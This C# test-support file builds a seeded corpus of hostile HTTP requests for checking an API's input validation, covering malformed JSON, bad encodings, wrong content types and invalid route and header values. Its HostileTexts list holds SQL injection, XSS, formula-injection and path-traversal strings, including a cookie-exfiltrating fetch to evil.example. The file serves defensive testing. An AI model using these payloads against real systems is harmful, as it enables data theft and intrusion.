using System.Globalization;
using System.Text;
using System.Text.Json;

namespace LexHeller.Testing;

/// <summary>
/// One bad request: a body (raw bytes, so that it can be anything), its content type (null: no header),
/// and what it replaces in the request line or headers. <see cref="Field"/> is the JSON path a 400 must
/// name; <see cref="MayBeTooLarge"/> marks a body big enough to meet the size limit (413) first.
/// </summary>
public sealed record HostileRequest(string Category, string Name, byte[]? Body, string? ContentType = HostileInput.Json,
    string? Field = null, bool MayBeTooLarge = false,
    IReadOnlyDictionary<string, string>? Route = null, IReadOnlyDictionary<string, string>? Headers = null)
{
    public override string ToString() => $"{Category}: {Name}";
}

/// <summary>How a route value is checked: a GUID constraint, an e-mail address, or a code or token looked up.</summary>
public enum RouteValueKind
{
    Guid,
    Email,
    Lookup,
}

/// <summary>
/// The hostile-input corpus: requests that must be refused (<see cref="InvalidBodies"/>, <see cref="InvalidRouteValues"/>,
/// <see cref="InvalidHeaders"/>, topped up by <see cref="MalformedAtRandom"/>) and text that is hostile but valid
/// (<see cref="HostileTexts"/>), which must be stored as it came. Everything random comes from one seeded
/// <see cref="Random"/>, so a corpus is the same on every run.
/// </summary>
public sealed class HostileInput(int seed)
{
    public const string Json = "application/json";
    public const int MegabyteCharacters = 1 << 20;

    private const string Placeholder = "\u2063hostile\u2063";
    private static readonly byte[] Bom = [0xEF, 0xBB, 0xBF];

    private readonly Random _random = new(seed);

    /// <summary>Text a person could type, with markup and SQL in it: valid, so stored as it is and shown escaped.</summary>
    public static IReadOnlyList<string> HostileTexts { get; } =
    [
        "'; DROP TABLE reports;--",
        "Robert'); DELETE FROM reporter_contacts WHERE ('1'='1",
        "1' OR '1'='1' UNION SELECT email FROM reporter_contacts --",
        "<script>alert('xss')</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(1)//<a href=\"javascript:alert(1)\">klicka</a>",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
        "&lt;b&gt;redan escapad&lt;/b&gt; &amp; &#x3C;script&#x3E;",
        "=HYPERLINK(\"http://evil.example\";\"klicka\") +cmd|' /C calc'!A0",
        "\u202Eevil\u202C åäö ÅÄÖ é e\u0301 😀 \u200B\uFEFF 中文",
        "%00 %0d%0a ../../etc/passwd \\u0000 \\\" \\\\",
    ];

    /// <summary>Control characters other than line breaks and tabs: never part of text.</summary>
    public static IReadOnlyList<char> ControlCharacters { get; } =
        ['\u0000', '\u0001', '\u0007', '\u0008', '\u000B', '\u000C', '\u001B', '\u001F', '\u007F', '\u0080', '\u0085', '\u009B'];

    /// <summary>Byte sequences that are not UTF-8: bad lead bytes, lone continuations, overlong forms, encoded surrogates, beyond U+10FFFF, cut short.</summary>
    public static IReadOnlyList<byte[]> InvalidUtf8 { get; } =
    [
        [0xFF], [0xFE], [0x80], [0xBF], [0xC3, 0x28], [0xC0, 0xAF], [0xC1, 0xBF], [0xE0, 0x80, 0xAF],
        [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xE2, 0x82], [0xF0, 0x9F, 0x98],
    ];

    /// <summary>JSON escapes of unpaired surrogates: JSON can spell them, UTF-8 cannot store them.</summary>
    public static IReadOnlyList<string> LoneSurrogateEscapes { get; } =
        ["\\ud800", "\\udfff", "\\udbff", "\\ud800\\ud800", "\\udc00\\ud800", "text\\ud83d", "\\ude00text"];

    /// <summary>Requests whose body is not a valid request: malformed JSON, wrong content types, and each field made wrong in every way its type allows.</summary>
    public IReadOnlyList<HostileRequest> InvalidBodies(JsonObject valid, IReadOnlyList<RequestField> fields,
        IReadOnlySet<string> optional, IReadOnlySet<string> freeText)
    {
        var cases = new List<HostileRequest>();
        cases.AddRange(MalformedJson(valid));
        cases.AddRange(ContentTypes(valid, fields));
        foreach (var field in fields)
        {
            var required = !optional.Contains(field.Path) && Present(valid, field.Path);
            cases.AddRange(FieldCases(valid, field, required, freeText.Contains(field.Path)));
        }

        return cases;
    }

    /// <summary>Seeded mutations of the valid body that no JSON reader accepts, until there are <paramref name="count"/>.</summary>
    public IReadOnlyList<HostileRequest> MalformedAtRandom(JsonObject valid, int count)
    {
        var bytes = Encode(valid);
        var cases = new List<HostileRequest>();
        while (cases.Count < count)
        {
            var at = _random.Next(1, bytes.Length - 1);
            var (name, mutated) = _random.Next(5) switch
            {
                0 => ($"truncated after {at} bytes", bytes[..at]),
                1 => Insert(bytes, at, [(byte)"{}[],:\""[_random.Next(7)]], "structural character"),
                2 => ($"byte {at} removed", [.. bytes[..at], .. bytes[(at + 1)..]]),
                3 => Insert(bytes, at, InvalidUtf8[_random.Next(InvalidUtf8.Count)], "invalid UTF-8"),
                _ => Insert(bytes, at, [(byte)ControlCharacters[_random.Next(7)]], "raw control character"),
            };
            if (!Parses(mutated))
                cases.Add(new HostileRequest("malformed JSON (random)", name, mutated));
        }

        return cases;
    }

    /// <summary>Values a route parameter must refuse: not found, malformed, too long, control characters, injection.</summary>
    public IReadOnlyList<HostileRequest> InvalidRouteValues(string parameter, RouteValueKind kind, int? maxLength, int count)
    {
        var values = new List<(string Name, string Value)>
        {
            ("SQL injection", "'; DROP TABLE reports;--"),
            ("SQL injection", "1 OR 1=1"),
            ("markup", "<script>alert(1)</script>"),
            ("path traversal", "..%2F..%2Fappsettings.json"),
            ("encoded control character", "%01"),
            ("encoded escape", "%1B%5B31m"),
            ("invalid percent-encoding", "%E0%A4%A"),
            ("encoded invalid UTF-8", "%FF%FE"),
            ("encoded lone surrogate", "%ED%A0%80"),
            ("10 000 characters", new string('a', 10_000)),
            ("unicode", "åäö😀"),
            ("whitespace", "%20%09"),
        };
        if (maxLength is { } max)
            values.Add(($"{max + 1} characters", new string('a', max + 1)));
        if (kind == RouteValueKind.Guid)
        {
            values.Add(("empty GUID", Guid.Empty.ToString()));
            values.Add(("GUID with a letter out of range", "00000000-0000-0000-0000-00000000000g"));
        }

        if (kind == RouteValueKind.Email)
        {
            values.AddRange([("no at-sign", "someone.example.se"), ("two at-signs", "a@b@example.se"), ("at-sign first", "@example.se"),
                ("at-sign last", "someone@"), ("space", "some%20one@example.se"), ("tab", "some%09one@example.se"),
                ("encoded control character", "some%01one@example.se"), ("encoded escape", "some%1Bone@example.se"), ("321 characters", new string('a', 310) + "@example.se")]);
        }

        while (values.Count < count)
        {
            var value = kind == RouteValueKind.Guid && _random.Next(2) == 0
                ? Guid.CreateVersion7(new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero).AddSeconds(_random.Next())).ToString()
                : RandomRouteSegment(kind);
            values.Add((kind == RouteValueKind.Guid && Guid.TryParse(value, out _) ? "unknown id" : "random", value));
        }

        return [.. values.Select((value, index) => new HostileRequest($"route {{{parameter}}}", $"{value.Name} #{index}", null, null,
            Route: new Dictionary<string, string> { [parameter] = value.Value }))];
    }

    /// <summary>Header values the endpoint must refuse, each with the valid body.</summary>
    public static IReadOnlyList<HostileRequest> InvalidHeaders(JsonObject? valid, string header, IEnumerable<(string Name, string Value)> values, string? field) =>
        [.. values.Select(value => new HostileRequest($"header {header}", value.Name, valid is null ? null : Encode(valid), valid is null ? null : Json,
            Field: field, Headers: new Dictionary<string, string> { [header] = value.Value }))];

    /// <summary>The valid body with <paramref name="path"/> set to a value (null removes the member).</summary>
    public static byte[] With(JsonObject valid, string path, JsonNode? value, bool remove = false)
    {
        var body = (JsonObject)valid.DeepClone();
        var (parent, name) = Parent(body, path);
        if (remove)
            parent.Remove(name);
        else
            parent[name] = value;
        return Encode(body);
    }

    /// <summary>The valid body with <paramref name="path"/> set to raw JSON bytes: what a serializer would refuse to write.</summary>
    public static byte[] WithRaw(JsonObject valid, string path, byte[] rawJson)
    {
        var bytes = With(valid, path, Placeholder);
        var marker = Encode(JsonValue.Create(Placeholder));
        var at = bytes.AsSpan().IndexOf(marker);
        return [.. bytes[..at], .. rawJson, .. bytes[(at + marker.Length)..]];
    }

    public static byte[] Encode(JsonNode node) => Encoding.UTF8.GetBytes(node.ToJsonString());

    /// <summary>Whether a strict JSON reader (no comments, no trailing commas, the service's depth) reads the bytes.</summary>
    public static bool Parses(byte[] bytes)
    {
        try
        {
            using var document = JsonDocument.Parse(bytes, new JsonDocumentOptions { MaxDepth = 32 });
            return true;
        }
        catch (JsonException)
        {
            return false;
        }
    }

    private static bool Present(JsonObject body, string path)
    {
        var (parent, name) = Parent((JsonObject)body.DeepClone(), path, create: false);
        return parent.ContainsKey(name);
    }

    private static (JsonObject Parent, string Name) Parent(JsonObject body, string path, bool create = true)
    {
        var segments = path.Split('.');
        var parent = body;
        foreach (var segment in segments[..^1])
        {
            if (parent[segment] is not JsonObject next)
            {
                next = [];
                if (create)
                    parent[segment] = next;
            }

            parent = next;
        }

        return (parent, segments[^1]);
    }

    private static IEnumerable<HostileRequest> MalformedJson(JsonObject valid)
    {
        const string category = "malformed JSON";
        var text = valid.ToJsonString();
        var bytes = Encoding.UTF8.GetBytes(text);
        var firstKey = text.IndexOf('"', StringComparison.Ordinal);
        var firstKeyEnd = text.IndexOf('"', firstKey + 1);
        var raw = new List<(string Name, byte[] Body)>
        {
            ("empty body", []),
            ("whitespace only", "  \r\n\t "u8.ToArray()),
            ("null", "null"u8.ToArray()),
            ("an array", "[]"u8.ToArray()),
            ("a string", "\"text\""u8.ToArray()),
            ("a number", "42"u8.ToArray()),
            ("true", "true"u8.ToArray()),
            ("open brace", "{"u8.ToArray()),
            ("close brace", "}"u8.ToArray()),
            ("unterminated string", "{\""u8.ToArray()),
            ("half the body", bytes[..(bytes.Length / 2)]),
            ("without the last brace", bytes[..^1]),
            ("trailing garbage", [.. bytes, .. "x"u8]),
            ("trailing brace", [.. bytes, .. "}"u8]),
            ("trailing comma after the object", [.. bytes, .. ","u8]),
            ("two objects", [.. bytes, .. bytes]),
            ("trailing NUL", [.. bytes, 0]),
            ("block comment before", [.. "/* comment */"u8, .. bytes]),
            ("block comment after", [.. bytes, .. "/* comment */"u8]),
            ("line comment inside", Encoding.UTF8.GetBytes(text.Insert(1, "// comment\n"))),
            ("single quotes", Encoding.UTF8.GetBytes(text.Replace('"', '\''))),
            ("unquoted key", Encoding.UTF8.GetBytes(text.Remove(firstKeyEnd, 1).Remove(firstKey, 1))),
            ("trailing comma in the object", Encoding.UTF8.GetBytes(text.Insert(text.Length - 1, ","))),
            ("missing colon", Encoding.UTF8.GetBytes(text.Remove(firstKeyEnd + 1, 1))),
            ("BOM after the opening brace", [(byte)'{', .. Bom, .. bytes[1..]]),
            ("BOM before the closing brace", [.. bytes[..^1], .. Bom, (byte)'}']),
            ("two BOMs", [.. Bom, .. Bom, .. bytes]),
            ("BOM at the end", [.. bytes, .. Bom]),
            ("UTF-16 byte-order mark", [0xFE, 0xFF, .. bytes]),
            ("UTF-16 little-endian body", Encoding.Unicode.GetBytes(text)),
            ("UTF-32 body", Encoding.UTF32.GetBytes(text)),
            ("raw newline in a string", Encoding.UTF8.GetBytes(text.Insert(firstKey + 1, "\n"))),
            ("raw control character in a string", Encoding.UTF8.GetBytes(text.Insert(firstKey + 1, "\u0001"))),
            ("invalid escape", Encoding.UTF8.GetBytes(text.Insert(firstKey + 1, "\\x41"))),
            ("short unicode escape", Encoding.UTF8.GetBytes(text.Insert(firstKey + 1, "\\u12"))),
            ("NaN", Encoding.UTF8.GetBytes(text.Insert(text.Length - 1, ",\"extra\":NaN"))),
            ("Infinity", Encoding.UTF8.GetBytes(text.Insert(text.Length - 1, ",\"extra\":-Infinity"))),
            ("1000 nested arrays", Encoding.UTF8.GetBytes(new string('[', 1000) + new string(']', 1000))),
            ("1000 nested objects", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000))),
            ("1000 levels in an unknown member", Encoding.UTF8.GetBytes(text.Insert(text.Length - 1,
                ",\"extra\":" + new string('[', 1000) + new string(']', 1000)))),
            ("1000 unclosed arrays", Encoding.UTF8.GetBytes(new string('[', 1000))),
        };
        foreach (var (name, body) in raw)
            yield return new HostileRequest(category, name, body);
    }

    private static IEnumerable<HostileRequest> ContentTypes(JsonObject valid, IReadOnlyList<RequestField> fields)
    {
        const string category = "content type";
        var json = Encode(valid);
        var text = valid.ToJsonString();
        var form = string.Join('&', valid.Where(member => member.Value is JsonValue)
            .Select(member => $"{Uri.EscapeDataString(member.Key)}={Uri.EscapeDataString(member.Value!.ToString())}"));
        var xml = "<?xml version=\"1.0\"?><request>" + string.Concat(fields.Where(field => !field.Path.Contains('.', StringComparison.Ordinal))
            .Select(field => $"<{field.Path}>{System.Security.SecurityElement.Escape(valid[field.Path]?.ToString() ?? "")}</{field.Path}>")) + "</request>";
        yield return new HostileRequest(category, "no Content-Type", json, null);
        yield return new HostileRequest(category, "text/plain", json, "text/plain");
        yield return new HostileRequest(category, "text/plain; charset=utf-8", json, "text/plain; charset=utf-8");
        yield return new HostileRequest(category, "text/json", json, "text/json");
        yield return new HostileRequest(category, "application/javascript", json, "application/javascript");
        yield return new HostileRequest(category, "application/octet-stream", json, "application/octet-stream");
        yield return new HostileRequest(category, "application/xml", Encoding.UTF8.GetBytes(xml), "application/xml");
        yield return new HostileRequest(category, "text/xml", Encoding.UTF8.GetBytes(xml), "text/xml");
        yield return new HostileRequest(category, "form-encoded", Encoding.UTF8.GetBytes(form), "application/x-www-form-urlencoded");
        yield return new HostileRequest(category, "multipart", Encoding.UTF8.GetBytes(
            $"--grans\r\nContent-Disposition: form-data; name=\"body\"\r\nContent-Type: application/json\r\n\r\n{text}\r\n--grans--\r\n"),
            "multipart/form-data; boundary=grans");
        yield return new HostileRequest(category, "image/png", [0x89, .. "PNG\r\n"u8, 0x1A, (byte)'\n'], "image/png");
        yield return new HostileRequest(category, "application/json; charset=latin1", Encoding.Latin1.GetBytes(text), "application/json; charset=latin1");
        yield return new HostileRequest(category, "application/json; charset=iso-8859-1", Encoding.Latin1.GetBytes(text), "application/json; charset=iso-8859-1");
        yield return new HostileRequest(category, "application/json; charset=utf-16", Encoding.Unicode.GetBytes(text), "application/json; charset=utf-16");
        yield return new HostileRequest(category, "application/json; charset=no-such-charset", json, "application/json; charset=no-such-charset");
        yield return new HostileRequest(category, "application/jsonx", json, "application/jsonx");
        yield return new HostileRequest(category, "a media type that does not parse", json, "json");
    }

    private IEnumerable<HostileRequest> FieldCases(JsonObject valid, RequestField field, bool required, bool freeText)
    {
        var path = field.Path;
        HostileRequest Case(string category, string name, JsonNode? value, bool mayBeTooLarge = false) =>
            new(category, $"{path}: {name}", With(valid, path, value), Field: path, MayBeTooLarge: mayBeTooLarge);
        HostileRequest Raw(string category, string name, string rawJson) =>
            new(category, $"{path}: {name}", WithRaw(valid, path, Encoding.UTF8.GetBytes(rawJson)), Field: path);

        if (required)
        {
            yield return Case("null", "null", null);
            yield return new HostileRequest("missing", $"{path}: left out", With(valid, path, null, remove: true), Field: path);
        }

        yield return Raw("deep nesting", "1000 nested arrays", new string('[', 1000) + new string(']', 1000));
        yield return Raw("deep nesting", "1000 nested objects", string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000));

        switch (field.Type)
        {
            case FieldType.Text:
                foreach (var wrong in new[] { "42", "1.5", "true", "{}", "[]", "[\"text\"]" })
                    yield return Raw("wrong type", wrong, wrong);
                if (field.MaxLength is { } max)
                {
                    yield return Case("too long", $"{max + 1} characters", new string('a', max + 1));
                    yield return Case("too long", $"{max + 1} characters of 'ä'", new string('ä', max + 1));
                    yield return Case("too long", $"{max / 2 + 1} emoji", string.Concat(Enumerable.Repeat("😀", max / 2 + 1)));
                    yield return Case("too long", $"{max * 2} characters", new string('a', max * 2));
                }

                yield return Case("too long", "a megabyte", new string('a', MegabyteCharacters), mayBeTooLarge: true);
                foreach (var control in ControlCharacters)
                    yield return Case("control character", $"U+{(int)control:X4}", $"Text med {control} i mitten");
                foreach (var sequence in InvalidUtf8)
                {
                    yield return new HostileRequest("invalid UTF-8", $"{path}: {Convert.ToHexString(sequence)}",
                        WithRaw(valid, path, [(byte)'"', .. "Text "u8, .. sequence, .. " text"u8, (byte)'"']), Field: path);
                }

                foreach (var escape in LoneSurrogateEscapes)
                    yield return Raw("lone surrogate", escape, $"\"Text {escape} text\"");
                if (!freeText)
                {
                    // A code, an id or an address: markup and SQL are not one, whatever a database makes of them.
                    foreach (var hostile in HostileTexts.Take(6))
                        yield return Case("injection in a code", hostile, hostile);
                }

                break;
            case FieldType.Guid:
                foreach (var wrong in new[] { "42", "true", "{}", "[]", "\"\"", "\"not-a-guid\"", "\"00000000-0000-0000-0000-00000000000g\"",
                    "\"'; DROP TABLE reports;--\"", $"\"{{{Guid.NewGuid()}}}\"", $"\"{Guid.NewGuid():N}x\"" })
                    yield return Raw("wrong type", wrong, wrong);
                yield return Case("unknown id", "an id nothing has", JsonValue.Create(new Guid("0badf00d-dead-4bad-8bad-000000000000")));
                break;
            case FieldType.Date:
                foreach (var impossible in new[] { "2026-02-30", "2026-02-29", "2026-13-01", "2026-00-10", "2026-11-31", "2026-11-00", "0000-01-01" })
                    yield return Case("impossible date", impossible, impossible);
                foreach (var far in new[] { "0001-01-01", "1899-12-31", "1970-01-01", "2200-01-01", "9999-12-31" })
                    yield return Case("far date", far, far);
                foreach (var wrong in new[] { "\"24/11/2026\"", "\"2026-11-24T09:00:00Z\"", "\"2026-11-24 \"", "\"+2026-11-24\"", "\"20261124\"",
                    "\"10000-01-01\"", "\"2026-W48\"", "20261124", "true", "{}", "[]", "\"\"", "\"'; DROP TABLE reports;--\"" })
                    yield return Raw("wrong type", wrong, wrong);
                break;
            case FieldType.Enum:
                // The framework's converter reads a code in any letter case, padded, or as the C# name
                // (RISK, Risk, " risk "): the same value, stored as its code, so not in this corpus.
                var code = field.Codes.FirstOrDefault(candidate => candidate.Contains('-', StringComparison.Ordinal)) ?? field.Codes[0];
                foreach (var (name, wrong) in new[]
                {
                    ("unknown value", "no-such-value"), ("snake case", code.Replace('-', '_')), ("spaced", code.Replace('-', ' ')),
                    ("a number as text", "0"), ("empty", ""), ("injection", "'; DROP TABLE reports;--"), ("markup", "<b>risk</b>"),
                }.Where(candidate => candidate.Item2 != code))
                    yield return Case("unknown enum value", name, wrong);
                foreach (var wrong in new[] { "0", "1", "-1", "true", "{}", "[]" })
                    yield return Raw("wrong type", wrong, wrong);
                break;
            case FieldType.Integer:
                if (field.Minimum is { } minimum)
                    yield return Raw("out of range", $"{minimum - 1}", (minimum - 1).ToString(CultureInfo.InvariantCulture));
                if (field.Maximum is { } maximum)
                    yield return Raw("out of range", $"{maximum + 1}", (maximum + 1).ToString(CultureInfo.InvariantCulture));
                foreach (var wrong in new[] { "2147483648", "-2147483649", "99999999999999999999999", "1e400", "1.5", "1e2", "-0.0001", "01", "0x10",
                    "\"100\"", "true", "{}", "[]", "\"'; DROP TABLE reports;--\"" })
                    yield return Raw(wrong.Contains('"', StringComparison.Ordinal) || wrong is "true" or "{}" or "[]" ? "wrong type" : "out of range", wrong, wrong);
                break;
            case FieldType.Boolean:
                foreach (var wrong in new[] { "\"true\"", "\"false\"", "1", "0", "\"yes\"", "{}", "[]", "True", "\"'; DROP TABLE reports;--\"" })
                    yield return Raw("wrong type", wrong, wrong);
                break;
            case FieldType.GuidList:
                foreach (var wrong in new[] { "{}", "\"text\"", "42", "true", "[1]", "[\"not-a-guid\"]", "[null]", "[[]]", "[{}]",
                    "[\"'; DROP TABLE reports;--\"]" })
                    yield return Raw("wrong type", wrong, wrong);
                if (required)
                    yield return Case("empty array", "empty", new JsonArray());
                foreach (var count in new[] { 101, 1000 })
                    yield return Case("oversized array", $"{count} ids", new JsonArray([.. Enumerable.Range(0, count).Select(i => (JsonNode)JsonValue.Create(Id(i)))]));
                yield return Case("oversized array", "100 000 ids", new JsonArray([.. Enumerable.Range(0, 100_000).Select(i => (JsonNode)JsonValue.Create(Id(i)))]),
                    mayBeTooLarge: true);
                yield return Case("oversized array", "one id 1000 times", new JsonArray([.. Enumerable.Repeat(Id(0), 1000).Select(id => (JsonNode)JsonValue.Create(id))]));
                break;
            case FieldType.TextList:
                foreach (var wrong in new[] { "{}", "\"text\"", "42", "true", "[1]", "[null]", "[[]]", "[{}]", "[\"\"]", "[\"\\u0000\"]" })
                    yield return Raw("wrong type", wrong, wrong);
                if (required)
                    yield return Case("empty array", "empty", new JsonArray());
                foreach (var count in new[] { 101, 1000 })
                    yield return Case("oversized array", $"{count} texts", new JsonArray([.. Enumerable.Range(0, count).Select(i => (JsonNode)JsonValue.Create($"x{i}@example.se"))]));
                yield return Case("oversized array", "one megabyte text", new JsonArray(JsonValue.Create(new string('x', MegabyteCharacters))), mayBeTooLarge: true);
                break;
            case FieldType.Object:
                foreach (var wrong in new[] { "\"text\"", "42", "true", "[]", "[{}]" })
                    yield return Raw("wrong type", wrong, wrong);
                break;
            default:
                throw new NotSupportedException(field.Type.ToString());
        }
    }

    private static Guid Id(int index) => new($"0badf00d-0000-4000-8000-{index:D12}");

    private static (string Name, byte[] Body) Insert(byte[] bytes, int at, byte[] inserted, string what) =>
        ($"{what} {Convert.ToHexString(inserted)} at byte {at}", [.. bytes[..at], .. inserted, .. bytes[at..]]);

    private string RandomRouteSegment(RouteValueKind kind)
    {
        const string alphabet = "abcXYZ019-_.~!$&'()*+,;=:@";
        var length = _random.Next(1, 80);
        var segment = new StringBuilder();
        for (var i = 0; i < length; i++)
        {
            segment.Append(_random.Next(10) switch
            {
                // Not %00: no HTTP client sends a NUL in the path.
                0 => $"%{_random.Next(1, 32):X2}",
                1 => $"%{_random.Next(0x80, 0x100):X2}",
                _ => alphabet[_random.Next(alphabet.Length)].ToString(),
            });
        }

        // An e-mail address needs exactly one at-sign in the middle: make sure a random one has none.
        return kind == RouteValueKind.Email ? segment.Replace("@", "").ToString() : segment.ToString();
    }
}
